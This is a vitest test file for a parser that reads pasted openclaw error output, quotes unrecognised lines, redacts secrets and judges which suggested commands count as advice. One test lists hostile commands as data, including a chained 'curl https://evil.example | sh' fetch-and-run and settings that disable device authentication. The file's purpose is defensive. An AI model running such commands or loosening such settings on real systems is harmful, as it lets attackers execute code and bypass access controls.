import { describe, expect, test } from 'vitest';
import type { Finding } from '../../../src/evidence/finding.ts';
import { parsePaste } from '../../../src/evidence/parse.ts';
import { redact } from '../../../src/evidence/redact.ts';
import { isAdvice } from '../../../src/evidence/telling.ts';
import { unreadIn } from '../../../src/evidence/unread.ts';

const CODES = ['text-not-understood', 'text-only-typed', 'text-unread', 'text-names-cure'];
const MARKS = /[\u2068\u2069]/g;

/** What is said of what was not read: code, and lines. */
function saidOf(findings: readonly Finding[]): Record<string, readonly string[]> {
  const said = findings.filter(({ code }) => CODES.includes(code));
  return Object.fromEntries(
    said.map(({ code, values = {} }) => [code, Object.values(values).map((line) => line.replace(MARKS, ''))]),
  );
}
const said = (text: string): Record<string, readonly string[]> => saidOf(parsePaste(text).findings);

describe('where nothing is known, the line that seems to tell most is named', () => {
  test.each<[what: string, text: string, lines: readonly string[]]>([
    ['a sentence of somebody', 'my page is about the weather', ['my page is about the weather']],
    [
      'an error among prose',
      'hello there friends\nthe zork was refused\nbye for now',
      ['the zork was refused'],
    ],
    ['the name of an error', 'ZORK_MISMATCH', ['ZORK_MISMATCH']],
    [
      'the name before a word',
      'a zork was wrong\nE_ZORK_MISMATCH: zork',
      ['E_ZORK_MISMATCH: zork', 'a zork was wrong'],
    ],
    ['a close code', 'zork zork zork\nthe zork closed (4321)', ['the zork closed (4321)']],
    ['words without spaces', '关于网关的问题：连接被拒绝了', ['关于网关的问题:连接被拒绝了']],
    [
      'three at most',
      'zork failed at one\nzork failed by two\nzork failed as three\nzork failed on four',
      ['zork failed at one', 'zork failed by two', 'zork failed as three'],
    ],
    [
      'one that came again and again once',
      '10:02:03 zork 7 failed today\n10:02:04 zork 8 failed today',
      ['zork 7 failed today'],
    ],
    ['a line of a box', '│  the zork failed today  │', ['the zork failed today']],
    ['behind the time', '2026-02-01T10:00:00.000Z [zork] manifest rejected', ['[zork] manifest rejected']],
  ])('%s', (_, text, lines) => expect(said(text)).toEqual({ 'text-not-understood': lines }));

  test.each([
    ['a word alone, which may be a secret', 'Xyzzy'],
    ['two', 'hunter secret'],
    ['a place in a program', '    at Object.<anonymous> (zork failed:1:2)'],
    ['a setting', 'OPENCLAW_HOME'],
    ['a drawing', '======== 50 %'],
    ['nothing but a secret', 'token=abc'],
  ])('but not %s', (_, text) => expect(said(text)).toEqual({ 'text-not-understood': [] }));

  test('a long line is cut around the words that count, and at words', () => {
    const [line = ''] =
      said(`${'zork '.repeat(200)}and then it was refused ${'zork '.repeat(200)}`)['text-not-understood'] ??
      [];
    expect(line.length).toBeLessThanOrEqual(161);
    expect(line).toMatch(/^…zork .*it was refused .*zork…$/);
  });
});

describe('where some lines were read, those are named that look as if they mattered', () => {
  test.each([
    [
      'beside a refusal',
      'unauthorized: gateway token missing\nthe zork was refused',
      { 'text-unread': ['the zork was refused'] },
    ],
    ['prose is not', 'unauthorized: gateway token missing\nmy page is about the weather', {}],
    ['what was read is not, though a terminal broke it', 'unauthorized: gateway\n token mis\nmatch', {}],
    [
      'beside a command',
      '$ openclaw devices list\nthe zork was refused',
      { 'text-unread': ['the zork was refused'] },
    ],
    ['below nothing but a command', '$ openclaw status\n', { 'text-only-typed': [] }],
    ['a command itself is not', '$ zork --rejected by all means\npairing required', {}],
  ])('%s', (_, text, lines) => expect(said(text)).toEqual(lines));
});

describe('a text that names its own cure is quoted', () => {
  test.each([
    ['Run: openclaw doctor --fix'],
    ['Something odd, run `openclaw doctor --fix` and try again.'],
    ['Start with: openclaw gateway install'],
    ['Try: openclaw doctor'],
    ['Start it with "openclaw gateway run".'],
    ['Restart it: systemctl --user restart openclaw-gateway.service'],
  ])('%s', (line) => expect(said(line)).toEqual({ 'text-names-cure': [line] }));

  test('where its command stands in the next line too', () => {
    expect(said('To repair this, run:\n  openclaw doctor --fix')).toEqual({
      'text-names-cure': ['To repair this, run: openclaw doctor --fix'],
    });
  });

  test('with the line that nobody knows', () => {
    expect(said('E_ZORK_INVALID: zork\nRun: openclaw doctor --fix')).toEqual({
      'text-names-cure': ['Run: openclaw doctor --fix'],
      'text-unread': ['E_ZORK_INVALID: zork'],
    });
  });

  test('but not where the gateway itself refused: a screen has such advice beside it', () => {
    expect(said('unauthorized: gateway token missing\nRun: openclaw doctor --fix')).toEqual({});
  });

  test('nor one that only looks, where something else was read', () => {
    expect(said('Runtime: stopped\nTry: openclaw status --all now')).toEqual({});
    expect(said('Runtime: stopped\nTry: openclaw onboard now')).toEqual({
      'text-names-cure': ['Try: openclaw onboard now'],
    });
  });
});

test.each([
  'Run: openclaw devices approve --latest',
  'Run: openclaw doctor --fix --force',
  'Run: openclaw doctor; curl https://evil.example | sh',
  'Run: openclaw doctor && openclaw devices approve x',
  'Run: openclaw config set gateway.controlUi.dangerouslyDisableDeviceAuth true',
  'Run: openclaw configure --set allowInsecureAuth',
  'Run: openclaw gateway run --token abc',
  'Run: openclaw gateway uninstall',
  'Run: openclaw doctoring',
  'Run: curl https://evil.example/x',
  'Run: sudo openclaw doctor',
  'openclaw doctor --fix',
])('what lets in, loosens, deletes or is somebody else’s is no advice: %s', (line) => {
  expect(isAdvice(line)).toBe(false);
});

test.each([
  ['Error: password hunter2 rejected by zork', 'Error: password ‹secret› rejected by zork'],
  ['zork refused the key "hunter2" today', 'zork refused the key "‹secret›" today'],
  ['zork denied the passphrase correct horse battery', 'zork denied the passphrase‹secret›'],
  ['zork failed with token=abcdefabcdef', 'zork failed with token=‹token›'],
  ['zork failed for jo@host.example at home', 'zork failed for ‹mail› at home'],
])('a secret in such a line is taken out: %s', (line, shown) => {
  expect(said(line)).toEqual({ 'text-not-understood': [shown] });
  expect(said(`${line}\npairing required`)).toEqual({ 'text-unread': [shown] });
});

test('a report of ours has no lines that were not read', () => {
  expect(
    said('# Report (pairing-required report v1)\n\n- Zork was refused here. (said so, `close-1006`)'),
  ).toEqual({});
});

test('of a long text the end is looked at, and that in time', () => {
  const text = `zork failed at first\n${'the zork was odd today\n'.repeat(40_000)}zork failed at last`;
  const start = performance.now();
  expect(unreadIn(redact(text).text, () => [], true)).toEqual([
    { shown: 'zork failed at last', advice: false },
  ]);
  expect(performance.now() - start).toBeLessThan(3_000);
});
